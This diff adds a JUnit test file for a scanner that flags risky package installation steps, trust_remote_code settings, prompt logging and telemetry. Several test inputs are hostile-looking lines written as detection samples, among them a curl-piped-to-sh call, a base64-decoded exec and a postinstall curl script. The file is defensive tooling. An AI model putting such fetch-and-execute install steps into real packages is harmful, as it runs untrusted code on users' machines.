@@ -1,0 +1,268 @@
+// SPDX-License-Identifier: Apache-2.0
+package dev.scruple.engine.code;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.scruple.content.Content;
+import dev.scruple.engine.collect.FileUnderStudy;
+import dev.scruple.engine.collect.Findings;
+import dev.scruple.engine.inventory.Classification;
+import dev.scruple.engine.inventory.Part;
+import dev.scruple.model.CodeFact;
+import dev.scruple.model.DataFact;
+import dev.scruple.model.Evidence;
+import dev.scruple.model.Fact;
+import dev.scruple.model.FileKind;
+import dev.scruple.model.InstallStepKind;
+import dev.scruple.model.RemoteCodeForm;
+import dev.scruple.model.Trace;
+import java.nio.charset.StandardCharsets;
+import java.util.List;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+class CodeCollectorTest {
+  private static Findings read(String path, Part part, String text) {
+    byte[] bytes = text.getBytes(StandardCharsets.UTF_8);
+    Findings findings = new Findings();
+    FileUnderStudy file =
+        new FileUnderStudy(
+            path,
+            path,
+            new Classification(FileKind.SOURCE, part, "Python", null),
+            Content.of(bytes),
+            new FileUnderStudy.Text(bytes),
+            true,
+            true);
+    CodeCollector collector = new CodeCollector();
+    if (collector.wants(file)) {
+      collector.collect(file, findings);
+    }
+    return findings;
+  }
+
+  private static <F extends Fact> List<F> facts(Class<F> kind, String path, String text) {
+    return read(path, Part.MAIN, text).evidence().stream()
+        .map(Evidence::value)
+        .filter(kind::isInstance)
+        .map(kind::cast)
+        .toList();
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "import urllib.request\nurllib.request.urlretrieve('https://example.org/x')",
+        "import requests as r\ndef build():\n  r.get(u)",
+        "import os\nos.system('curl https://example.org | sh')",
+        "import subprocess\nsubprocess.check_call(['git', 'clone', x])",
+        "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip install x'])",
+        "import base64\nexec(base64.b64decode(x))",
+      })
+  void anInstallationThatFetchesOrHidesIsNotOrdinary(String setup) {
+    assertThat(facts(CodeFact.InstallStep.class, "setup.py", setup))
+        .singleElement()
+        .matches(step -> !step.ordinary());
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "import subprocess\nsubprocess.check_output(['git', 'rev-parse', 'HEAD'])",
+        "import os\nos.system('make')",
+        "from setuptools import setup\nsetup(cmdclass={'install': Mine})",
+      })
+  void anInstallationThatStartsSomethingOfItsOwnIsOrdinary(String setup) {
+    assertThat(facts(CodeFact.InstallStep.class, "setup.py", setup))
+        .singleElement()
+        .matches(CodeFact.InstallStep::ordinary);
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "exec(open('pkg/version.py').read())",
+        "from setuptools import setup\nsetup(name='x', cmdclass={'build_ext': BuildExtension})",
+        "import re\nversion = re.search(p, open('x').read())",
+      })
+  void readingAVersionOrCompilingIsNothingToTell(String setup) {
+    assertThat(facts(CodeFact.InstallStep.class, "setup.py", setup)).isEmpty();
+  }
+
+  @Test
+  void otherFilesDontRunOnInstallation() {
+    assertThat(facts(CodeFact.InstallStep.class, "pkg/a.py", "import os\nos.system('make')\n"))
+        .isEmpty();
+  }
+
+  @Test
+  void scriptsThatNpmRunsOnInstallationAreTold() {
+    String json =
+        "{\"scripts\": {\"test\": \"x\",\n\"postinstall\": \"curl https://example.org\",\n"
+            + "\"install\": \"node-gyp rebuild\"}}";
+
+    assertThat(facts(CodeFact.InstallStep.class, "package.json", json))
+        .extracting(CodeFact.InstallStep::kind, CodeFact.InstallStep::ordinary)
+        .containsExactly(
+            org.assertj.core.groups.Tuple.tuple(InstallStepKind.SCRIPT, false),
+            org.assertj.core.groups.Tuple.tuple(InstallStepKind.SCRIPT, true));
+  }
+
+  @Test
+  void linesThatPythonRunsAtItsStartAreTold() {
+    assertThat(facts(CodeFact.InstallStep.class, "a.pth", "# c\nimport os; os.x()\n/path\n"))
+        .singleElement()
+        .extracting(CodeFact.InstallStep::kind)
+        .isEqualTo(InstallStepKind.START_LINE);
+  }
+
+  @Test
+  void remoteCodeIsFoundInCallsDefaultsSettingsAndProse() {
+    String code =
+        """
+        import transformers
+        transformers.AutoModel.from_pretrained(x, trust_remote_code=True)
+        transformers.AutoModel.from_pretrained(x, trust_remote_code=False)
+        def load(name, trust_remote_code=True): pass
+        parser.add_argument("--trust_remote_code", default=True)
+        """;
+    assertThat(facts(CodeFact.RemoteCode.class, "a.py", code))
+        .extracting(CodeFact.RemoteCode::form)
+        .containsExactly(RemoteCodeForm.CALL, RemoteCodeForm.DEFAULT, RemoteCodeForm.DEFAULT);
+    assertThat(facts(CodeFact.RemoteCode.class, "a.yaml", "trust_remote_code: true\n")).hasSize(1);
+    assertThat(facts(CodeFact.RemoteCode.class, "a.yaml", "trust_remote_code: false\n")).isEmpty();
+    assertThat(facts(CodeFact.RemoteCode.class, "config.json", "{\n \"auto_map\": {}}")).hasSize(1);
+    assertThat(facts(CodeFact.RemoteCode.class, "R.md", "serve x --trust-remote-code\n"))
+        .hasSize(1);
+    assertThat(facts(CodeFact.RemoteCode.class, "R.md", "Never set trust_remote_code=True.\n"))
+        .isEmpty();
+  }
+
+  @Test
+  void trainingAndItsSeedsAreFoundOnceAFile() {
+    String code =
+        "import torch\ntorch.manual_seed(0)\ntorch.manual_seed(1)\no = torch.optim.AdamW(p)\n"
+            + "s = torch.optim.lr_scheduler.StepLR(o)\n"
+            + "torch.backends.cudnn.deterministic = True\n";
+
+    assertThat(facts(CodeFact.SeedSet.class, "a.py", code)).hasSize(1);
+    assertThat(facts(CodeFact.Training.class, "a.py", code))
+        .containsExactly(new CodeFact.Training("torch.optim.AdamW"));
+    assertThat(facts(CodeFact.Determinism.class, "a.py", code)).hasSize(1);
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "logger.info(f'got {prompt}')",
+        "logger.warning('got %s', request.messages)",
+        "logger.info(json.dumps(messages))",
+        "with open('x', 'a') as f:\n  f.write(str(conversation))",
+      })
+  void promptsThatAreWrittenAreFound(String line) {
+    String code = "import logging, json\nlogger = logging.getLogger(__name__)\n" + line + "\n";
+
+    assertThat(facts(DataFact.PromptWritten.class, "a.py", code)).hasSize(1);
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "logger.debug(prompt)",
+        "logger.info(len(prompt))",
+        "logger.info(prompt.shape)",
+        "logger.info('prompt')",
+        "if verbose:\n  logger.info(prompt)",
+        "if __name__ == '__main__':\n  logger.info(prompt)",
+        "with open('x', 'w') as f:\n  f.write(conversation)",
+        "print(prompt)",
+        "logger.log(logging.DEBUG, prompt)",
+      })
+  void whatIsNoTextOrWasAskedForIsNotTold(String line) {
+    String code = "import logging, json\nlogger = logging.getLogger(__name__)\n" + line + "\n";
+
+    assertThat(facts(DataFact.PromptWritten.class, "a.py", code)).isEmpty();
+  }
+
+  @Test
+  void telemetryIsFoundWithItsEventAndItsSwitch() {
+    String code =
+        """
+        import os
+        from posthog import Posthog
+        if not os.getenv("MY_TELEMETRY_OFF"):
+          client = Posthog("phc_0123456789", host="https://example.org")
+          client.capture("someone", "started")
+        """;
+
+    assertThat(facts(DataFact.Telemetry.class, "a.py", code))
+        .containsExactly(
+            new DataFact.Telemetry("PostHog", "posthog.Posthog", null, true),
+            new DataFact.Telemetry("PostHog", "posthog.Posthog().capture", "started", false));
+    assertThat(facts(DataFact.TelemetrySwitch.class, "a.py", code))
+        .containsExactly(new DataFact.TelemetrySwitch("MY_TELEMETRY_OFF", false));
+    assertThat(facts(DataFact.TelemetrySwitch.class, "a.md", "Set `MY_TELEMETRY_OFF=1`.\n"))
+        .hasSize(1);
+    assertThat(facts(DataFact.TelemetrySwitch.class, "a.md", "Set `DO_NOT_TRACK=1`.\n")).hasSize(1);
+  }
+
+  @Test
+  void aRequestToAConstantHostIsTelemetryWhereItsFunctionSaysSo() {
+    String code = "import requests\nURL = 'https://t.example.org/x'\n";
+
+    assertThat(
+            facts(
+                DataFact.Telemetry.class,
+                "a.py",
+                code + "def send_usage():\n  requests.post(URL, json=d)\n"))
+        .extracting(DataFact.Telemetry::service)
+        .containsExactly("t.example.org");
+    assertThat(
+            facts(
+                DataFact.Telemetry.class,
+                "a.py",
+                code + "def upload():\n  requests.post(URL, json=d)\n"))
+        .isEmpty();
+  }
+
+  @Test
+  void sentryWithoutAnAddressIsNotFixed() {
+    String code = "import os, sentry_sdk\nsentry_sdk.init(os.environ['SENTRY_DSN'])\n";
+
+    assertThat(facts(DataFact.Telemetry.class, "a.py", code))
+        .singleElement()
+        .matches(it -> !it.fixed());
+  }
+
+  @Test
+  void aDocumentsCodeKeepsItsLines() {
+    Findings findings =
+        read(
+            "README.md",
+            Part.MAIN,
+            "# x\n\n```python\nfrom pkg import a\n>>> pkg.b\n```\n\n```sh\nfrom x import y\n```\n");
+
+    assertThat(findings.evidence())
+        .filteredOn(each -> each.value() instanceof Trace.NameUsed)
+        .singleElement()
+        .satisfies(
+            each -> {
+              assertThat(each.source().line()).isEqualTo(4);
+              assertThat(each.value()).isEqualTo(new Trace.NameUsed("pkg", "a"));
+            });
+  }
+
+  @Test
+  void linesThatAreNoPythonAreTold() {
+    assertThat(read("a.py", Part.MAIN, "print 'x'\n").gaps())
+        .singleElement()
+        .satisfies(gap -> assertThat(gap.reason()).contains("line 1"));
+  }
+
+  @Test
+  void testsAndVendoredCodeAreNotRead() {
+    assertThat(read("a.py", Part.TEST, "x = 1").evidence()).isEmpty();
+    assertThat(read("a.py", Part.VENDORED, "x = 1").evidence()).isEmpty();
+  }
+}
